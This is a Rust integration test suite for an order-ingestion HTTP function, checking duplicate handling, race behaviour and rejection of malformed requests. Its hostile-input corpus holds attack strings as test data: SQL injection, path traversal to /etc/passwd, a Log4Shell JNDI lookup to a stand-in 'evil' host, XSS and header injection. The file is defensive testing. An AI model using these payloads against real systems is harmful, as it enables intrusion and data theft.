//! `POST /orders` end to end: the real `ingest-fn` binary behind the emulator's HTTP API, the
//! real Temporal dev server, a real storefront and local worker — so an accepted order really
//! runs to completion, a duplicate is one workflow, and hostile input starts nothing.

mod support;

use ingest_fn::starter::CLIENT_CREATED;
use serde_json::{Value, json};
use shared::signing::{self as auth, SIGNATURE_HEADER, Secret, TIMESTAMP_HEADER};
use support::{Stack, StackOptions, eventually};

#[tokio::test(flavor = "multi_thread")]
async fn an_order_starts_once_completes_and_a_changed_payload_conflicts() {
    let stack = Stack::start(StackOptions::default()).await;
    let order_id = stack.order_id("H");
    let body = stack.order_json(&order_id);

    let first = stack.post(&body).await;
    assert_eq!(first.status(), 202);
    let first: Value = first.json().await.unwrap();
    let workflow_id = format!("order-{order_id}");
    assert_eq!(
        (first["workflowId"].as_str(), first["duplicate"].as_bool()),
        (Some(workflow_id.as_str()), Some(false))
    );
    assert!(
        first["ingestId"]
            .as_str()
            .is_some_and(|id| id.parse::<ulid::Ulid>().is_ok())
    );

    // While it runs, and again after it completed: the same workflow, 200 duplicate.
    let again = stack.post(&body).await;
    assert_eq!(again.status(), 200);
    let again: Value = again.json().await.unwrap();
    assert_eq!(
        (
            &again["workflowId"],
            &again["runId"],
            again["duplicate"].as_bool()
        ),
        (&first["workflowId"], &first["runId"], Some(true))
    );
    let outcome = stack.completes(&workflow_id).await;
    assert!(
        matches!(outcome, shared::OrderOutcome::Completed { .. }),
        "{outcome:?}"
    );
    let after = stack.post(&body).await;
    assert_eq!(after.status(), 200);
    assert_eq!(
        after.json::<Value>().await.unwrap()["runId"],
        first["runId"]
    );

    let mut changed: Value = serde_json::from_str(&body).unwrap();
    changed["shippingAddress"]["city"] = "Hamburg".into();
    let conflict = stack.post(&changed.to_string()).await;
    assert_eq!(conflict.status(), 409);
    assert_eq!(
        conflict.headers()["content-type"],
        "application/problem+json"
    );
    assert_eq!(
        conflict.json::<Value>().await.unwrap()["workflowId"],
        workflow_id.as_str()
    );

    assert_eq!(stack.charges(&order_id).await, 1, "charged exactly once");

    // The ingest ID a caller got is in the function's logs.
    let ingest_id = first["ingestId"].as_str().unwrap().to_owned();
    eventually("the ingest ID in the function's log", async || {
        std::fs::read_to_string(stack.log_file())
            .ok()
            .filter(|log| log.contains(&ingest_id))
            .map(|_| ())
    })
    .await;

    // The same new order from eight clients at once: one start, seven duplicates of it.
    let racing_id = stack.order_id("R");
    let racing_body = stack.order_json(&racing_id);
    let answers = futures::future::join_all((0..8).map(|_| stack.post(&racing_body))).await;
    let mut statuses: Vec<u16> = answers.iter().map(|r| r.status().as_u16()).collect();
    statuses.sort();
    assert_eq!(statuses, [200, 200, 200, 200, 200, 200, 200, 202]);
    stack.completes(&format!("order-{racing_id}")).await;
    assert_eq!(stack.charges(&racing_id).await, 1);
    eventually("visibility to list the two workflows", async || {
        (stack.workflow_count().await == 2).then_some(())
    })
    .await;

    // One Temporal client per execution environment, not per request: every invocation here
    // was an order, so each environment made its client on its first one — as many clients as
    // cold starts, fewer than invocations.
    let stats = stack.emulator.stats(support::FUNCTION).unwrap();
    let clients = eventually(
        "a client creation per cold start in the function's log",
        async || {
            let log = std::fs::read_to_string(stack.log_file()).ok()?;
            let clients = log.lines().filter(|l| l.contains(CLIENT_CREATED)).count() as u64;
            (clients >= stats.cold_starts).then_some(clients)
        },
    )
    .await;
    assert_eq!(clients, stats.cold_starts, "{stats:?}");
    assert!(
        clients < stats.invocations,
        "{clients} clients for {} invocations: {stats:?}",
        stats.invocations
    );
    assert_eq!(stats.errors, 0, "{stats:?}");
}

/// Twenty clients post the same order ID at once with five different bodies (four copies each,
/// differing in how many mugs they buy): exactly one start wins; the copies of the winning body
/// are 200 duplicates of it, every other body is a 409 conflict; one workflow runs, every effect
/// happens once, and it is the winning body's order that ran.
#[tokio::test(flavor = "multi_thread")]
async fn twenty_racing_posts_with_different_bodies_start_one_order() {
    const VARIANTS: usize = 5;
    let stack = Stack::start(StackOptions::default()).await;
    let order_id = stack.order_id("C");
    let mugs = |i: usize| (i % VARIANTS + 1) as u64;
    let bodies: Vec<String> = (0..20)
        .map(|i| {
            let mut order: Value = serde_json::from_str(&stack.order_json(&order_id)).unwrap();
            order["items"][0]["quantity"] = mugs(i).into();
            order.to_string()
        })
        .collect();
    let answers = futures::future::join_all(bodies.iter().map(|body| stack.post(body))).await;
    let statuses: Vec<u16> = answers.iter().map(|r| r.status().as_u16()).collect();
    let winners: Vec<usize> = (0..20).filter(|&i| statuses[i] == 202).collect();
    assert_eq!(winners.len(), 1, "exactly one start: {statuses:?}");
    let winner = winners[0];
    for (i, status) in statuses.iter().enumerate() {
        let expected = match i {
            _ if i == winner => 202,
            _ if mugs(i) == mugs(winner) => 200,
            _ => 409,
        };
        assert_eq!(
            *status,
            expected,
            "body {i} ({} mugs): {statuses:?}",
            mugs(i)
        );
    }
    let workflow_id = format!("order-{order_id}");
    let outcome = stack.completes(&workflow_id).await;
    assert!(
        matches!(outcome, shared::OrderOutcome::Completed { .. }),
        "{outcome:?}"
    );
    let effects = stack.effects(&order_id).await;
    let mut seen: Vec<(String, String)> = effects
        .iter()
        .map(|e| (e["kind"].to_string(), e["sku"].to_string()))
        .collect();
    seen.sort();
    let count = seen.len();
    seen.dedup();
    assert_eq!(seen.len(), count, "an effect happened twice: {effects:#?}");
    let mug_reservation = effects
        .iter()
        .find(|e| e["kind"] == "reserve" && e["sku"] == "MUG-CLASSIC")
        .expect("the mugs were reserved");
    assert_eq!(
        mug_reservation["quantity"],
        mugs(winner),
        "the winning body ran"
    );
    assert_eq!(stack.charges(&order_id).await, 1);
    eventually("visibility to list one workflow", async || {
        (stack.workflow_count().await == 1).then_some(())
    })
    .await;
}

/// One hostile or broken request and the status it must get.
struct Case {
    name: String,
    body: Vec<u8>,
    /// `None`: signed correctly with `application/json`. `Some`: exactly these headers.
    headers: Option<Vec<(String, String)>>,
    status: u16,
}

fn case(name: &str, body: impl Into<Vec<u8>>, status: u16) -> Case {
    Case {
        name: name.into(),
        body: body.into(),
        headers: None,
        status,
    }
}

/// At least 50 requests that must each get a 4xx and start nothing. Valid-looking order IDs in
/// them are `hostile_id`, so the test can check that no such workflow exists afterwards.
fn corpus(hostile_id: &str, secret: &Secret) -> Vec<Case> {
    let sample: Value =
        serde_json::from_str(&shared::domain::sample_order_json(hostile_id)).unwrap();
    let edited = |edit: &dyn Fn(&mut Value)| {
        let mut v = sample.clone();
        edit(&mut v);
        v.to_string()
    };
    let valid = sample.to_string();
    let mut cases = vec![
        // Malformed JSON.
        case("empty body", "", 400),
        case("whitespace", "  \n ", 400),
        case("truncated", &valid[..valid.len() / 2], 400),
        case("trailing garbage", format!("{valid} x"), 400),
        case("trailing comma", valid.replacen('}', ",}", 1), 400),
        case("comment", format!("/* hi */ {valid}"), 400),
        case("single quotes", valid.replace('"', "'"), 400),
        case("null", "null", 400),
        case("number", "42", 400),
        case("string", "\"order\"", 400),
        case("empty object", "{}", 400),
        case("array", "[]", 400),
        case("array of orders", format!("[{valid}]"), 400),
        case(
            "positional array",
            edited(&|v| *v = Value::Array(v.as_object().unwrap().values().cloned().collect())),
            400,
        ),
        case(
            "NaN",
            edited(&|v| v["items"][0]["quantity"] = 0.into())
                .replace("\"quantity\":0", "\"quantity\":NaN"),
            400,
        ),
        case("byte order mark", format!("\u{feff}{valid}"), 400),
        case(
            "deep nesting",
            format!("{}{}", "[".repeat(5000), "]".repeat(5000)),
            400,
        ),
        case(
            "duplicate key",
            valid.replacen('{', &format!("{{\"orderId\":\"{hostile_id}\","), 1),
            400,
        ),
        case(
            "invalid utf-8",
            [b"{\"orderId\":\"".as_slice(), &[0xff, 0xfe], b"\"}"].concat(),
            400,
        ),
        // Wrong types.
        case(
            "orderId number",
            edited(&|v| v["orderId"] = 12345.into()),
            400,
        ),
        case(
            "customer string",
            edited(&|v| v["customer"] = "cust-42".into()),
            400,
        ),
        case(
            "items object",
            edited(&|v| v["items"] = json!({ "sku": "MUG-CLASSIC" })),
            400,
        ),
        case(
            "quantity string",
            edited(&|v| v["items"][0]["quantity"] = "2".into()),
            400,
        ),
        case(
            "quantity float",
            edited(&|v| v["items"][0]["quantity"] = 1.5.into()),
            400,
        ),
        case(
            "currency null",
            edited(&|v| v["currency"] = Value::Null),
            400,
        ),
        case(
            "placedAt number",
            edited(&|v| v["placedAt"] = 1_764_064_800.into()),
            400,
        ),
        case(
            "address bool",
            edited(&|v| v["shippingAddress"] = true.into()),
            400,
        ),
        // Missing fields.
        case(
            "no orderId",
            edited(&|v| {
                v.as_object_mut().unwrap().remove("orderId");
            }),
            400,
        ),
        case(
            "no items",
            edited(&|v| {
                v.as_object_mut().unwrap().remove("items");
            }),
            400,
        ),
        case(
            "no email",
            edited(&|v| {
                v["customer"].as_object_mut().unwrap().remove("email");
            }),
            400,
        ),
        case(
            "no sku",
            edited(&|v| {
                v["items"][0].as_object_mut().unwrap().remove("sku");
            }),
            400,
        ),
        case(
            "no country",
            edited(&|v| {
                v["shippingAddress"]
                    .as_object_mut()
                    .unwrap()
                    .remove("country");
            }),
            400,
        ),
        // Unknown fields (rejected: `deny_unknown_fields` — a misspelt field must not be ignored).
        case(
            "unknown top-level",
            edited(&|v| v["discountPercent"] = 100.into()),
            400,
        ),
        case(
            "unknown nested",
            edited(&|v| v["customer"]["isAdmin"] = true.into()),
            400,
        ),
        case(
            "misspelt optional",
            edited(&|v| v["shippingAddress"]["line_2"] = "Hinterhaus".into()),
            400,
        ),
        case(
            "__proto__",
            edited(&|v| v["__proto__"] = json!({ "admin": true })),
            400,
        ),
        // Rule violations, injection and unicode.
        case(
            "sql injection id",
            edited(&|v| v["orderId"] = "A-1'; DROP TABLE orders;--".into()),
            400,
        ),
        case(
            "path traversal id",
            edited(&|v| v["orderId"] = "../../etc/passwd".into()),
            400,
        ),
        case(
            "log4shell",
            edited(&|v| v["orderId"] = "${jndi:ldap://evil/a}".into()),
            400,
        ),
        case(
            "script in sku",
            edited(&|v| v["items"][0]["sku"] = "<script>alert(1)</script>".into()),
            400,
        ),
        case(
            "newline in name",
            edited(&|v| v["shippingAddress"]["name"] = "Ada\r\nX-Injected: 1".into()),
            400,
        ),
        case(
            "nul in city",
            edited(&|v| v["shippingAddress"]["city"] = "Ber\u{0}lin".into()),
            400,
        ),
        case(
            "fullwidth id",
            edited(&|v| v["orderId"] = "Ａ-１００１".into()),
            400,
        ),
        case(
            "emoji id",
            edited(&|v| v["orderId"] = "order-🛒".into()),
            400,
        ),
        case(
            "overlong id",
            edited(&|v| v["orderId"] = "A".repeat(65).into()),
            400,
        ),
        case(
            "bad email",
            edited(&|v| v["customer"]["email"] = "ada@@example".into()),
            400,
        ),
        case(
            "lowercase currency",
            edited(&|v| v["currency"] = "usd".into()),
            400,
        ),
        case(
            "bad country",
            edited(&|v| v["shippingAddress"]["country"] = "Germany".into()),
            400,
        ),
        case(
            "bad date",
            edited(&|v| v["placedAt"] = "yesterday".into()),
            400,
        ),
        case(
            "zero quantity",
            edited(&|v| v["items"][0]["quantity"] = 0.into()),
            400,
        ),
        case(
            "negative price",
            edited(&|v| v["items"][0]["unitPriceMinor"] = (-1).into()),
            400,
        ),
        case(
            "huge quantity",
            edited(&|v| v["items"][0]["quantity"] = 1_000_000_000_000_i64.into()),
            400,
        ),
        case(
            "u64 overflow",
            edited(&|v| v["items"][0]["quantity"] = 0.into())
                .replace("\"quantity\":0", "\"quantity\":99999999999999999999999"),
            400,
        ),
        case(
            "exponent",
            edited(&|v| v["items"][0]["quantity"] = 0.into())
                .replace("\"quantity\":0", "\"quantity\":1e309"),
            400,
        ),
        case(
            "total overflow",
            edited(
                &|v| v["items"] = json!([{ "sku": "MUG-CLASSIC", "quantity": 1000, "unitPriceMinor": 1_000_000_000 }]),
            ),
            400,
        ),
        case("no items at all", edited(&|v| v["items"] = json!([])), 400),
        case(
            "duplicate sku lines",
            edited(&|v| v["items"][1]["sku"] = "MUG-CLASSIC".into()),
            400,
        ),
        case(
            "51 items",
            edited(&|v| {
                v["items"] = Value::Array((0..51).map(|i| json!({ "sku": format!("SKU-{i}"), "quantity": 1, "unitPriceMinor": 1 })).collect())
            }),
            400,
        ),
        // Size: over the 64 KiB limit (and far over).
        case(
            "oversized",
            edited(&|v| v["shippingAddress"]["line2"] = "x".repeat(70 * 1024).into()),
            413,
        ),
        case("one megabyte", vec![b' '; 1024 * 1024], 413),
    ];
    // The valid order, with broken headers: 401 (signature) or 415 (content type).
    let with = |name: &str, headers: Vec<(&str, String)>, status: u16| Case {
        name: name.into(),
        body: valid.clone().into_bytes(),
        headers: Some(
            headers
                .into_iter()
                .map(|(k, v)| (k.to_owned(), v))
                .collect(),
        ),
        status,
    };
    let json_type = || ("content-type", "application/json".to_owned());
    let now = auth::unix_now();
    let signed_at = |at: i64| {
        vec![
            json_type(),
            (TIMESTAMP_HEADER, at.to_string()),
            (SIGNATURE_HEADER, auth::sign(secret, at, valid.as_bytes())),
        ]
    };
    let good = || signed_at(now);
    let replace = |name: &str, value: &str| {
        let mut h = good();
        h.retain(|(k, _)| *k != name);
        h.push((
            Box::leak(name.to_owned().into_boxed_str()),
            value.to_owned(),
        ));
        h
    };
    let without = |name: &str| {
        let mut h = good();
        h.retain(|(k, _)| *k != name);
        h
    };
    let other_secret = Secret::random();
    cases.extend([
        with("no signature headers", vec![json_type()], 401),
        with("no timestamp", without(TIMESTAMP_HEADER), 401),
        with("no signature", without(SIGNATURE_HEADER), 401),
        with("empty signature", replace(SIGNATURE_HEADER, ""), 401),
        with(
            "signature not hex",
            replace(SIGNATURE_HEADER, "v1=zzzz"),
            401,
        ),
        with(
            "signature v2 scheme",
            replace(
                SIGNATURE_HEADER,
                &auth::sign(secret, now, valid.as_bytes()).replace("v1=", "v2="),
            ),
            401,
        ),
        with(
            "wrong secret",
            replace(
                SIGNATURE_HEADER,
                &auth::sign(&other_secret, now, valid.as_bytes()),
            ),
            401,
        ),
        with(
            "signature of another body",
            replace(SIGNATURE_HEADER, &auth::sign(secret, now, b"{}")),
            401,
        ),
        with(
            "timestamp not a number",
            replace(TIMESTAMP_HEADER, "now"),
            401,
        ),
        with("ten minutes old", signed_at(now - 600), 401),
        with("ten minutes ahead", signed_at(now + 600), 401),
        with("no content type", without("content-type"), 415),
        with("text/plain", replace("content-type", "text/plain"), 415),
        with(
            "form",
            replace("content-type", "application/x-www-form-urlencoded"),
            415,
        ),
        with("xml", replace("content-type", "application/xml"), 415),
        with(
            "latin-1 json",
            replace("content-type", "application/json; charset=iso-8859-1"),
            415,
        ),
    ]);
    cases
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_requests_get_a_4xx_problem_and_start_nothing() {
    let stack = Stack::start(StackOptions::default()).await;
    let hostile_id = stack.order_id("X");
    let cases = corpus(&hostile_id, &stack.secret);
    assert!(cases.len() >= 50, "corpus has {} cases", cases.len());
    let mut failures = Vec::new();
    let mut refused = Vec::new();
    for case in &cases {
        let mut request = stack.http.post(stack.orders_url()).body(case.body.clone());
        match &case.headers {
            Some(headers) => {
                for (name, value) in headers {
                    request = request.header(name, value);
                }
            }
            None => {
                request = request.header("content-type", "application/json");
                for (name, value) in auth::signed_headers(&stack.secret, &case.body) {
                    request = request.header(name, value);
                }
            }
        }
        let response = request.send().await.unwrap();
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get("content-type")
            .map(|v| v.to_str().unwrap().to_owned());
        let body: Value = response.json().await.unwrap_or(Value::Null);
        if let (Some(ingest_id), Some(problem)) = (body["ingestId"].as_str(), body["type"].as_str())
        {
            let slug = problem.trim_start_matches("https://shopflow.dev/problems/");
            refused.push((case.name.clone(), ingest_id.to_owned(), slug.to_owned()));
        }
        let problem_ok = content_type.as_deref() == Some("application/problem+json")
            && body["status"] == status
            && body["type"]
                .as_str()
                .is_some_and(|t| t.starts_with("https://shopflow.dev/problems/"))
            && body["ingestId"].is_string();
        let errors_ok = status != 400
            || body["errors"].as_array().is_some_and(|e| {
                !e.is_empty()
                    && e.iter().all(|e| {
                        e["field"].is_string() && e["rule"].is_string() && e["message"].is_string()
                    })
            });
        if status != case.status || !problem_ok || !errors_ok {
            failures.push(format!(
                "{}: expected {}, got {status} {content_type:?} {body}",
                case.name, case.status
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert!(
        !stack.workflow_exists(&format!("order-{hostile_id}")).await,
        "a hostile request started a workflow"
    );
    // Every refusal, at the door (401, 413, 415) or as an order (400), is logged once under
    // the ingest ID its caller got, with the problem type.
    assert_eq!(refused.len(), cases.len());
    for (name, ingest_id, slug) in &refused {
        let line = stack.logged_once(ingest_id).await;
        assert!(
            line.contains("request refused") && line.contains(slug.as_str()),
            "{name}: {line}"
        );
    }

    // The same valid body, signed properly, still works: the refusals were about the requests.
    let valid = stack.order_json(&hostile_id);
    assert_eq!(stack.post(&valid).await.status(), 202);
    eventually("visibility to list exactly the one workflow", async || {
        (stack.workflow_count().await == 1).then_some(())
    })
    .await;
    let stats = stack.emulator.stats(support::FUNCTION).unwrap();
    assert_eq!(stats.errors, 0, "no invocation failed (no 5xx): {stats:?}");
}
